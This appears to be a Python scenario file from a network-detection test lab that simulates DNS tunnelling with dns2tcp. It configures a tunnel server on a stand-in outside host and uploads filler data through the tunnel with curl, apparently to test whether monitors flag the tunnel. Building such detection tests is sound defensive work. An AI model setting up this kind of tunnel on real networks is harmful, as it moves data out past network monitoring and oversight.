# SPDX-License-Identifier: Apache-2.0
"""TCP inside DNS by dns2tcp."""
from scenario import TUNNEL_S, Scenario

SCENARIO = Scenario('DNS tunnel: dns2tcp', ('D09', ), 'high', allowed=('D13', ), explains=('tunnel', ),
                    within_s=TUNNEL_S, needs=('dns2tcpd', 'dns2tcpc', 'nginx', 'curl'), commitments=('C8', ))


def make(lab):
    lab.outside.serve_web()
    conf = lab.outside.file(
        'dns2tcpd.conf', f'listen = 203.0.113.53\nport = 53\nuser = nobody\nchroot = {lab.outside.folder}\n'
        'domain = d.example.com\nresources = web:203.0.113.53:80\n')
    lab.outside.serve('dns2tcpd', '-F', '-f', conf)
    lab.sleep(1)
    lab.inside.speak_as('10.20.0.31')
    lab.mark()
    lab.inside.serve('dns2tcpc', '-r', 'web', '-z', 'd.example.com', '-l', '8888', '203.0.113.53', port=8888)
    path = lab.inside.file('data', b'0123456789abcdef' * 2_000)
    lab.inside.curl('--upload-file', path, 'http://127.0.0.1:8888/in/data')
